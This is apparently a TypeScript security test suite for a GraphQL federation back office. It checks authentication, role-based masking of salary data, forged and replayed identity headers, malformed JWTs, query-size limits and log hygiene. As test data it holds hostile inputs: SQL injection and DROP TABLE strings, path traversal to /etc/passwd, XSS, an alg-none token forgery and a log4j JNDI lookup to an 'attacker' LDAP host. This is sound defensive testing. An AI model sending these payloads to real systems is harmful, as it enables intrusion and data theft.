import { createHmac, randomBytes } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { type GraphQLObjectType, isNonNullType } from 'graphql';
import { generateKeyPair, SignJWT } from 'jose';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bodyDigest,
  connectBus,
  createKeyring,
  devSigningKey,
  devTrustedKeys,
  domainEvent,
  generateSigningKey,
  IDENTITY_HEADER,
  ROLES,
  type Role,
  type ServiceName,
  signIdentity,
} from '@backoffice/kit';
import {
  deleteTestStream,
  dropTestDatabases,
  freePort,
  graphqlClient,
  mintToken,
  publishSignedBody,
  signedAsGateway,
  startPlatform,
  testEnv,
  testGatewayKeyring,
  uniqueRunId,
} from '@backoffice/testkit';
import { check, LEAK, runCases, type SecurityCase, tally } from './support/cases.js';
import { DUMMY_ID, operationFor, rootFieldsOf, supergraphSchema } from './support/operations.js';
import { PRODUCTION_JWT, startProductionGateway } from './support/production-gateway.js';
import { allowList, rootFields } from './support/rules.js';

/**
 * The platform under attack: five subgraphs and the gateway as separate processes (real Postgres
 * and NATS, isolated per run), plus a second, in-process gateway configured as in production
 * (introspection for signed-in callers, persisted operations only, a small rate limit).
 */
const runId = uniqueRunId();
/** A key of the retired shared-HMAC scheme, as anyone who held it would sign the old header set with. */
const OLD_SHARED_KEY = randomBytes(48).toString('base64');
// Random, as production requires (the in-process production gateway refuses typed or example secrets).
const JWT_SECRET = randomBytes(48).toString('base64');
/** The production gateway's own key (production refuses dev keys); the suite's subgraphs trust it too. */
const PRODUCTION_GATEWAY_KEY = generateSigningKey();
const trusted = Object.fromEntries(devTrustedKeys());
trusted.gateway = [...trusted.gateway, PRODUCTION_GATEWAY_KEY.publicKey];
const env: Record<string, string> = {
  ...testEnv(runId),
  TRUSTED_KEYS: JSON.stringify(trusted),
  JWT_SECRET,
  // The attack runs hundreds of requests as one user; the limiter has its own case on the production gateway.
  RATE_LIMIT_PER_MINUTE: '0',
  LOG_LEVEL: 'info',
};
const SERVICES: ServiceName[] = ['hr', 'accounting', 'documents', 'compliance', 'it'];

let platform: Awaited<ReturnType<typeof startPlatform>>;
let production: Awaited<ReturnType<typeof startProductionGateway>>;
const logLines: { name: string; line: string }[] = [];
const tokens: string[] = [];

async function token(roles: Role[], employeeId?: string, sub = `sec-${roles.join('-') || 'none'}`) {
  const minted = await mintToken({ sub, roles, employeeId }, { secret: JWT_SECRET, ...PRODUCTION_JWT });
  tokens.push(minted);
  return minted;
}

interface Answer {
  status: number;
  body: {
    data?: Record<string, unknown> | null;
    errors?: { message: string; extensions?: { code?: string } }[];
  };
  text: string;
}

async function post(url: string, body: unknown, headers: Record<string, string> = {}): Promise<Answer> {
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
  const text = await res.text();
  let parsed: Answer['body'] = {};
  try {
    parsed = JSON.parse(text);
  } catch {
    // checked by the callers that care
  }
  return { status: res.status, body: parsed, text };
}

const bearer = (t: string) => ({ authorization: `Bearer ${t}` });
/** What the gateway sent before identities were signed per request: an HMAC with the shared key. */
function legacyHmacHeaders(identity: { userId: string | null; roles: Role[] }, key: string) {
  const encoded = Buffer.from(JSON.stringify({ sub: identity.userId, roles: identity.roles })).toString(
    'base64url',
  );
  const time = String(Date.now());
  return {
    [IDENTITY_HEADER]: encoded,
    'x-backoffice-identity-time': time,
    'x-backoffice-identity-signature': createHmac('sha256', key)
      .update(`${time}.${encoded}`)
      .digest('base64url'),
  };
}
const codes = (a: Answer) => (a.body.errors ?? []).map((e) => e.extensions?.code);

/** No 5xx, no INTERNAL_SERVER_ERROR, every error with a contract code, nothing internal in a message. */
function assertSafe(a: Answer): void {
  check(a.status < 500, `HTTP ${a.status}: ${a.text.slice(0, 200)}`);
  for (const error of a.body.errors ?? []) {
    const code = error.extensions?.code;
    check(
      code && ['BAD_USER_INPUT', 'UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND', 'CONFLICT'].includes(code),
      `code ${code}: ${error.message.slice(0, 200)}`,
    );
    check(!LEAK.test(error.message), `leaks internals: ${error.message.slice(0, 200)}`);
  }
}

const schema = supergraphSchema();
const operations = rootFieldsOf(schema);
const declared = new Map(rootFields().map((f) => [`${f.type}.${f.name}`, f.roles]));
const authenticatedOnly = allowList().fields;

beforeAll(async () => {
  const ports = await Promise.all(Array.from({ length: 6 }, () => freePort()));
  platform = await startPlatform({
    env,
    gatewayPort: ports[0],
    servicePorts: {
      hr: ports[1],
      accounting: ports[2],
      documents: ports[3],
      compliance: ports[4],
      it: ports[5],
    },
    log: (name, line) => logLines.push({ name, line }),
    readyTimeoutMs: 150_000,
  });
  const subgraphUrls = Object.fromEntries(
    platform.processes.filter((p) => p.name !== 'gateway').map((p) => [p.name, `${p.origin}/graphql`]),
  );
  production = await startProductionGateway({
    gatewayKey: PRODUCTION_GATEWAY_KEY,
    jwtSecret: JWT_SECRET,
    subgraphUrls,
  });
}, 240_000);

afterAll(async () => {
  await production?.stop();
  await platform?.stop();
  await dropTestDatabases(runId);
  await deleteTestStream(env.EVENTS_STREAM);
  process.stdout.write(`security cases: tried ${tally.tried}, passed ${tally.passed}\n`);
  for (const failure of tally.failures.slice(0, 50)) process.stdout.write(`  failed: ${failure}\n`);
}, 60_000);

/** Malformed events go out first; their parking is checked at the end, after the retries ran. */
const MALFORMED = 4;
let publishedAt = 0;

describe('hostile input', () => {
  it('publishes malformed events on the bus', async () => {
    const bus = await connectBus({
      url: process.env.NATS_URL ?? 'nats://127.0.0.1:4222',
      stream: env.EVENTS_STREAM,
      prefix: env.EVENTS_SUBJECT_PREFIX,
      name: 'security-suite',
    });
    try {
      const wrongData = domainEvent('hr', 'employee.hired', 'not-a-uuid', {
        employeeId: 42,
        givenName: null,
      });
      const injected = domainEvent('hr', 'employee.hired', DUMMY_ID, {
        employeeId: "'; DROP TABLE ticket; --",
        givenName: '../../etc/passwd',
      });
      const payloads = ['not json at all', '{}', JSON.stringify(wrongData), JSON.stringify(injected)];
      expect(payloads).toHaveLength(MALFORMED);
      // Signed with hr's key, as a buggy or compromised hr would send them: past the signature check,
      // the handlers themselves must refuse them.
      for (const [i, payload] of payloads.entries()) {
        await publishSignedBody(bus, 'backoffice.hr.employee.hired', payload, {
          msgID: `security-${runId}-${i}`,
        });
      }
      publishedAt = Date.now();
    } finally {
      await bus.nc.close();
    }
  });

  it('answers UNAUTHENTICATED to anonymous callers on every root field', async () => {
    const cases: SecurityCase[] = operations.map(({ type, field }) => ({
      name: `anonymous ${type}.${field.name}`,
      async run() {
        const op = operationFor(type, field);
        const a = await post(platform.gatewayUrl, { query: op.query, variables: op.variables });
        check(codes(a).length > 0, `no error: ${a.text.slice(0, 200)}`);
        check(
          codes(a).every((c) => c === 'UNAUTHENTICATED'),
          `codes ${codes(a).join(',')}: ${a.text.slice(0, 200)}`,
        );
      },
    }));
    expect(await runCases(cases)).toEqual([]);
  });

  it('answers FORBIDDEN to every role a field excludes, and lets authenticated-only fields through', async () => {
    const cases: SecurityCase[] = [];
    for (const { type, field } of operations) {
      const key = `${type}.${field.name}`;
      const roles = declared.get(key);
      if (roles === undefined && !(key in authenticatedOnly)) {
        cases.push({
          name: `decision ${key}`,
          run: async () => check(false, 'no @requiresRole in any subgraph SDL and not in the allow-list'),
        });
        continue;
      }
      const op = operationFor(type, field);
      if (roles === undefined) {
        cases.push({
          name: `employee ${key}`,
          async run() {
            const a = await post(
              platform.gatewayUrl,
              { query: op.query, variables: op.variables },
              bearer(await token(['employee'], DUMMY_ID)),
            );
            check(!codes(a).includes('UNAUTHENTICATED'), `a signed-in employee got UNAUTHENTICATED`);
            assertSafe(a);
          },
        });
        continue;
      }
      for (const role of ROLES) {
        if (role === 'admin' || roles.includes(role)) continue;
        cases.push({
          name: `${role} ${key}`,
          async run() {
            const a = await post(
              platform.gatewayUrl,
              { query: op.query, variables: op.variables },
              bearer(await token([role], DUMMY_ID)),
            );
            check(
              codes(a).length > 0 && codes(a).every((c) => c === 'FORBIDDEN'),
              `codes ${codes(a).join(',') || 'none'}: ${a.text.slice(0, 160)}`,
            );
          },
        });
      }
    }
    expect(await runCases(cases)).toEqual([]);
  });

  it("masks an employee's pay and personal data from analysts", async () => {
    const hr = graphqlClient(platform.gatewayUrl, await token(['hr']));
    const dept = await hr.query(
      'mutation { createDepartment(input: { name: "Security", costCenter: "SEC-1" }) { id } }',
    );
    expect(dept.errors).toBeUndefined();
    const hired = await hr.query('mutation($i: HireEmployeeInput!) { hireEmployee(input: $i) { id } }', {
      i: {
        givenName: 'Ada',
        familyName: 'Lovelace',
        email: `ada.${runId}@example.com`,
        departmentId: dept.data.createDepartment.id,
        startDate: '2027-01-04',
        workLocation: 'OFFICE',
        contract: { monthlySalary: '7100.00', currency: 'EUR', fte: 1 },
      },
    });
    expect(hired.errors).toBeUndefined();
    const id = hired.data.hireEmployee.id as string;
    const analyst = await token(['analyst']);
    const hrToken = await token(['hr']);
    const masked = [
      'contract { monthlySalary }',
      'contractHistory { monthlySalary }',
      'personalData { iban bsn }',
      'payslips { __typename }',
      'allowances { monthlyAmount }',
      'payrollCost(year: 2027)',
      'statusHistory { status }',
    ];
    const cases: SecurityCase[] = masked.flatMap((selection) => [
      {
        name: `analyst Employee.${selection.split(/[ ({]/)[0]}`,
        async run() {
          const query = `query($id: ID!) { employee(id: $id) { id ${selection} } }`;
          const a = await post(platform.gatewayUrl, { query, variables: { id } }, bearer(analyst));
          check(codes(a).includes('FORBIDDEN'), `not FORBIDDEN: ${a.text.slice(0, 200)}`);
          check(!a.text.includes('7100'), 'the salary reached an analyst');
          // A refused non-null field nulls its parent (GraphQL's rule); a nullable one keeps the rest intact.
          const name = selection.split(/[ ({]/)[0];
          const nullable = !isNonNullType(
            (schema.getType('Employee') as GraphQLObjectType).getFields()[name]?.type,
          );
          if (nullable)
            check(
              (a.body.data?.employee as { id?: string } | null)?.id === id,
              'the rest of the answer was lost',
            );
        },
      },
      {
        name: `hr Employee.${selection.split(/[ ({]/)[0]}`,
        async run() {
          const query = `query($id: ID!) { employee(id: $id) { id ${selection} } }`;
          const a = await post(platform.gatewayUrl, { query, variables: { id } }, bearer(hrToken));
          check(!codes(a).includes('FORBIDDEN'), `hr was refused: ${a.text.slice(0, 200)}`);
        },
      },
    ]);
    expect(await runCases(cases)).toEqual([]);
  });

  it('refuses forged, replayed, stale and malformed identity headers sent straight to each subgraph', async () => {
    const admin = { userId: 'intruder', roles: ['admin' as Role], employeeId: null };
    const employee = { userId: 'intruder', roles: ['employee' as Role], employeeId: null };
    const cases: SecurityCase[] = [];
    for (const service of SERVICES) {
      const origin = platform.processes.find((p) => p.name === service)?.origin;
      const own = rootFields().filter((f) => f.service === service && f.type === 'Query');
      const probe = own.find((f) => f.roles) ?? own[0];
      const field = probe && schema.getQueryType()?.getFields()[probe.name];
      if (!origin || !field) throw new Error(`no probe field for ${service}`);
      const op = operationFor('Query', field);
      const url = `${origin}/graphql`;
      const body = JSON.stringify({ query: op.query, variables: op.variables });
      const send = (headers: Record<string, string>) => post(url, body, headers);
      const refused = (a: Answer) =>
        check(
          a.status === 401 || (codes(a).length > 0 && codes(a).every((c) => c === 'UNAUTHENTICATED')),
          `accepted (HTTP ${a.status}): ${a.text.slice(0, 160)}`,
        );
      const request = { audience: service, method: 'POST', path: '/graphql', body: bodyDigest(body) };
      const other = SERVICES.find((s) => s !== service) as string;
      const gateway = testGatewayKeyring();
      const documentsKey = createKeyring('documents', devSigningKey('documents'), devTrustedKeys());
      const signed = await signedAsGateway(url, employee, body);
      const forgedBody = signIdentity(admin, request, gateway)[IDENTITY_HEADER];
      const variants: [string, Record<string, string>][] = [
        ['no identity', {}],
        ['forged role', { ...signed, [IDENTITY_HEADER]: forgedBody }],
        ['signed by a service key (documents)', signIdentity(admin, request, documentsKey)],
        ['replayed after 31 s', signIdentity(admin, request, gateway, Date.now() - 31_000)],
        ['replayed after an hour', signIdentity(admin, request, gateway, Date.now() - 3_600_000)],
        ['from the future', signIdentity(admin, request, gateway, Date.now() + 60_000)],
        ['for another subgraph', signIdentity(admin, { ...request, audience: other }, gateway)],
        ['for another body', signIdentity(admin, { ...request, body: bodyDigest('{}') }, gateway)],
        ['the old HMAC header set', legacyHmacHeaders(admin, OLD_SHARED_KEY)],
        ['a user token instead', bearer(await token(['admin']))],
      ];
      for (const [name, headers] of variants) {
        cases.push({ name: `${service} direct: ${name}`, run: async () => refused(await send(headers)) });
      }
      cases.push({
        name: `${service} direct: a fresh valid signature is accepted once (control), then refused`,
        async run() {
          const fresh = signIdentity(admin, request, gateway);
          const a = await send(fresh);
          check(!codes(a).includes('UNAUTHENTICATED'), `refused: ${a.text.slice(0, 160)}`);
          refused(await send(fresh));
        },
      });
    }
    cases.push({
      name: 'gateway ignores identity headers a client sends',
      async run() {
        const op = operationFor('Query', schema.getQueryType()?.getFields().departments as never);
        const body = JSON.stringify({ query: op.query });
        const asHr = { audience: 'hr', method: 'POST', path: '/graphql', body: bodyDigest(body) };
        const a = await post(platform.gatewayUrl, body, signIdentity(admin, asHr, testGatewayKeyring()));
        check(codes(a).includes('UNAUTHENTICATED'), `accepted: ${a.text.slice(0, 160)}`);
      },
    });
    expect(await runCases(cases)).toEqual([]);
  });

  it('refuses expired, unsigned, wrongly signed and ill-formed user tokens', async () => {
    const now = Math.floor(Date.now() / 1000);
    const secret = new TextEncoder().encode(JWT_SECRET);
    const sign = (claims: Record<string, unknown>, key = secret, alg = 'HS256') =>
      new SignJWT(claims).setProtectedHeader({ alg }).sign(key as Uint8Array);
    const { privateKey } = await generateKeyPair('RS256');
    const unsigned = `${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${Buffer.from(
      JSON.stringify({ sub: 'x', roles: ['admin'], exp: now + 600 }),
    ).toString('base64url')}.`;
    const bad: [string, string][] = [
      ['expired', await sign({ sub: 'x', roles: ['hr'], exp: now - 60 })],
      ['not yet valid', await sign({ sub: 'x', roles: ['hr'], exp: now + 600, nbf: now + 300 })],
      ['alg none', unsigned],
      [
        'wrong key',
        await sign(
          { sub: 'x', roles: ['admin'], exp: now + 600 },
          new TextEncoder().encode('another-secret-of-enough-length-here'),
        ),
      ],
      [
        'RS256 with only a secret configured',
        await new SignJWT({ sub: 'x', roles: ['admin'], exp: now + 600 })
          .setProtectedHeader({ alg: 'RS256' })
          .sign(privateKey),
      ],
      ['HS512', await sign({ sub: 'x', roles: ['admin'], exp: now + 600 }, secret, 'HS512')],
      ['unknown role', await sign({ sub: 'x', roles: ['root'], exp: now + 600 })],
      ['roles not a list', await sign({ sub: 'x', roles: 'admin', exp: now + 600 })],
      ['no sub', await sign({ roles: ['admin'], exp: now + 600 })],
      ['no exp', await sign({ sub: 'x', roles: ['admin'] })],
      [
        'payload changed after signing',
        (await token(['employee'])).replace(
          /\.[^.]+\./,
          `.${Buffer.from(JSON.stringify({ sub: 'x', roles: ['admin'], exp: now + 600 })).toString('base64url')}.`,
        ),
      ],
      ['garbage', 'not-a-jwt'],
    ];
    const cases: SecurityCase[] = bad.map(([name, jwt]) => ({
      name: `token: ${name}`,
      async run() {
        const a = await post(platform.gatewayUrl, { query: '{ departments { id } }' }, bearer(jwt));
        check(
          a.status === 401 && codes(a)[0] === 'UNAUTHENTICATED',
          `HTTP ${a.status}: ${a.text.slice(0, 160)}`,
        );
      },
    }));
    cases.push({
      name: 'token: Basic scheme',
      async run() {
        const a = await post(
          platform.gatewayUrl,
          { query: '{ departments { id } }' },
          { authorization: 'Basic YTpi' },
        );
        check(a.status === 401, `HTTP ${a.status}`);
      },
    });
    expect(await runCases(cases)).toEqual([]);
  });

  it('refuses deep, wide, aliased, costly and oversized requests with BAD_USER_INPUT', async () => {
    const hr = bearer(await token(['hr']));
    const limited = (name: string, body: unknown, limit: RegExp, status = 400): SecurityCase => ({
      name,
      async run() {
        const a = await post(platform.gatewayUrl, body, hr);
        check(a.status === status, `HTTP ${a.status}: ${a.text.slice(0, 160)}`);
        check(codes(a)[0] === 'BAD_USER_INPUT', `code ${codes(a)[0]}`);
        check(limit.test(a.body.errors?.[0]?.message ?? ''), `message: ${a.body.errors?.[0]?.message}`);
      },
    });
    /** Sends a body over MAX_BODY_BYTES and expects 413 before the upload ends. */
    const oversized = (declared: boolean) =>
      new Promise<void>((resolve, reject) => {
        const url = new URL(platform.gatewayUrl);
        const size = 9 * 1024 * 1024;
        const req = httpRequest(
          {
            host: url.hostname,
            port: url.port,
            path: url.pathname,
            method: 'POST',
            headers: {
              'content-type': 'application/json',
              ...hr,
              ...(declared ? { 'content-length': String(size) } : {}),
            },
          },
          (res) => {
            let text = '';
            res.on('data', (c) => (text += c));
            res.on('end', () => {
              req.destroy();
              try {
                check(res.statusCode === 413, `HTTP ${res.statusCode}`);
                check(/MAX_BODY_BYTES/.test(text) && /BAD_USER_INPUT/.test(text), text.slice(0, 160));
                resolve();
              } catch (error) {
                reject(error);
              }
            });
          },
        );
        req.on('error', () => {
          // The gateway closes the connection once it answered; the upload may notice first.
        });
        const chunk = Buffer.alloc(256 * 1024, 0x20);
        let sent = 0;
        const pump = () => {
          while (sent < size && !req.destroyed) {
            sent += chunk.length;
            if (!req.write(chunk)) return void req.once('drain', pump);
          }
        };
        // Spaces only. With a declared length the gateway answers on the headers alone: send one chunk
        // and wait (pushing all 9 MB at a socket it closed can reset the connection before we read).
        if (declared) req.write(chunk);
        else pump();
        setTimeout(() => reject(new Error('no answer in 10 s')), 10_000).unref();
      });
    const deep = `{ employee(id: "${DUMMY_ID}") { ${'manager { '.repeat(20)}id${' }'.repeat(20)} } }`;
    const aliases = `{ ${Array.from({ length: 200 }, (_, i) => `a${i}: departments { id }`).join(' ')} }`;
    const fragmentBomb = `{ ...F ...F ...F ...F ...F ...F ...F ...F ...F ...F } fragment F on Query { ${Array.from({ length: 5 }, (_, i) => `f${i}: departments { id }`).join(' ')} }`;
    const directives = `{ departments { id ${Array.from({ length: 60 }, () => '@include(if: true)').join(' ')} } }`;
    const tokens = `{ departments { ${Array.from({ length: 6000 }, () => 'id').join(' ')} } }`;
    const costly = '{ employees(first: 100) { edges { node { reports { reports { reports { id } } } } } } }';
    const cases = [
      limited('depth 20', { query: deep }, /MAX_QUERY_DEPTH/),
      limited('200 aliases', { query: aliases }, /MAX_ALIASES/),
      limited('aliases hidden in a fragment spread 10 times', { query: fragmentBomb }, /MAX_ALIASES/),
      limited('60 directives', { query: directives }, /MAX_DIRECTIVES/),
      limited('6000 tokens', { query: tokens }, /token/i),
      limited('nested lists over MAX_COST', { query: costly }, /MAX_COST/),
      {
        name: 'a declared 9 MB body',
        run: async () => oversized(true),
      },
      {
        name: 'a chunked body growing past 8 MB',
        run: async () => oversized(false),
      },
      limited('a body that is not JSON', '{"query": ', /JSON/),
      {
        name: 'text/plain POST (CSRF)',
        async run() {
          const res = await fetch(platform.gatewayUrl, {
            method: 'POST',
            headers: { 'content-type': 'text/plain', ...hr },
            body: '{ departments { id } }',
          });
          check(res.status === 400, `HTTP ${res.status}`);
        },
      },
      {
        name: 'a mutation over GET',
        async run() {
          const res = await fetch(
            `${platform.gatewayUrl}?query=${encodeURIComponent('mutation { createDepartment(input: { name: "G", costCenter: "G-1" }) { id } }')}`,
            { headers: { ...hr, 'apollo-require-preflight': '1' } },
          );
          check(res.status >= 400 && res.status < 500, `HTTP ${res.status}`);
        },
      },
      {
        name: 'a batch array',
        async run() {
          const a = await post(
            platform.gatewayUrl,
            [{ query: '{ departments { id } }' }, { query: '{ departments { id } }' }],
            hr,
          );
          check(a.status >= 400 && a.status < 500, `HTTP ${a.status}`);
        },
      },
    ] satisfies SecurityCase[];
    expect(await runCases(cases, 3)).toEqual([]);
  });

  it('answers injection and traversal strings in every string argument without a 500 or SQL text', async () => {
    const payloads = [
      "' OR '1'='1",
      "x'); DROP TABLE employee; --",
      '../../../../etc/passwd',
      '..%2f..%2f..%2fetc%2fpasswd',
      'nul\u0000byte',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, on purpose
      '${jndi:ldap://attacker/x} <script>alert(1)</script> {{7*7}}',
      'ü'.repeat(3000),
    ];
    const admin = bearer(await token(['admin'], DUMMY_ID, 'sec-injector'));
    const cases: SecurityCase[] = [];
    for (const { type, field } of operations) {
      for (const [i, payload] of payloads.entries()) {
        const op = operationFor(type, field, {
          optional: true,
          fill: (scalar) =>
            scalar === 'String' || scalar === 'ID'
              ? payload
              : ((
                  {
                    Int: 1,
                    Float: 1,
                    Boolean: true,
                    Decimal: '1.00',
                    Date: '2027-01-04',
                    DateTime: '2027-01-04T09:00:00Z',
                  } as Record<string, unknown>
                )[scalar] ?? payload),
        });
        if (op.stringSlots.length === 0) continue;
        cases.push({
          name: `inject#${i} ${type}.${field.name}`,
          async run() {
            assertSafe(await post(platform.gatewayUrl, { query: op.query, variables: op.variables }, admin));
          },
        });
      }
    }
    for (const path of [
      '/documents/..%2f..%2f..%2fetc%2fpasswd/content',
      '/documents/%2e%2e/%2e%2e/etc/passwd',
      "/exports/journal.hledger?from=2027-01-01'%20OR%201=1--",
      '/documents/../../etc/passwd',
    ]) {
      cases.push({
        name: `traversal ${path}`,
        async run() {
          const res = await fetch(`${platform.gatewayOrigin}${path}`, { headers: admin });
          const text = await res.text();
          check(res.status < 500, `HTTP ${res.status}: ${text.slice(0, 160)}`);
          check(!/root:.*:0:0:/.test(text), 'served /etc/passwd');
          check(!LEAK.test(text), `leaks internals: ${text.slice(0, 160)}`);
        },
      });
    }
    expect(await runCases(cases)).toEqual([]);
  }, 120_000);

  it('keeps the production gateway quiet: no anonymous introspection, no suggestions, persisted operations only, a rate limit', async () => {
    expect(await runCases(await production.cases(token))).toEqual([]);
  });

  it('parks malformed events, and every service stays up and ready', async () => {
    const cases: SecurityCase[] = [
      {
        name: 'malformed events parked by it',
        async run() {
          const client = new pg.Client({
            connectionString: (
              process.env.DATABASE_URL ?? 'postgres://postgres@127.0.0.1:5432/postgres'
            ).replace(/\/[^/]*$/, `/backoffice_it${env.DATABASE_SUFFIX}`),
          });
          await client.connect();
          try {
            let parked = 0;
            const until = Math.max(publishedAt + 40_000, Date.now() + 5_000);
            while (Date.now() < until) {
              const { rows } = await client.query(
                `SELECT count(*)::int AS n FROM dead_letter WHERE subject LIKE '%employee.hired'`,
              );
              parked = rows[0].n;
              if (parked >= MALFORMED) break;
              await new Promise((r) => setTimeout(r, 500));
            }
            check(parked >= MALFORMED, `${parked} of ${MALFORMED} parked`);
          } finally {
            await client.end();
          }
        },
      },
      ...platform.processes.map((p) => ({
        name: `${p.name} still ready`,
        async run() {
          check(p.managed.isRunning(), `${p.name} exited`);
          const res = await fetch(`${p.origin}/ready`);
          check(res.status === 200, `/ready answered ${res.status}`);
        },
      })),
    ];
    expect(await runCases(cases)).toEqual([]);
  }, 60_000);

  it('never logs a token, an identity signature or the variables of a request', async () => {
    const marker = 'NL91ABNA0417164300-security-marker';
    const a = await post(
      platform.gatewayUrl,
      { query: 'query($id: ID!) { employee(id: $id) { id } }', variables: { id: marker } },
      bearer(await token(['hr'])),
    );
    assertSafe(a);
    await new Promise((r) => setTimeout(r, 300));
    const cases: SecurityCase[] = [
      {
        name: 'logs: no bearer token anywhere',
        async run() {
          const leaked = logLines.filter(({ line }) => tokens.some((t) => line.includes(t.split('.')[2])));
          check(leaked.length === 0, `${leaked[0]?.name}: ${leaked[0]?.line.slice(0, 200)}`);
        },
      },
      {
        name: 'logs: the gateway prints no variables',
        async run() {
          const leaked = logLines.filter(({ name, line }) => name === 'gateway' && line.includes(marker));
          check(leaked.length === 0, leaked[0]?.line.slice(0, 200) ?? '');
        },
      },
      {
        name: 'logs: the gateway logged requests at all (the check above means something)',
        async run() {
          check(
            logLines.some(({ name, line }) => name === 'gateway' && line.includes('"request"')),
            'no request log lines',
          );
        },
      },
    ];
    expect(await runCases(cases)).toEqual([]);
  });
});
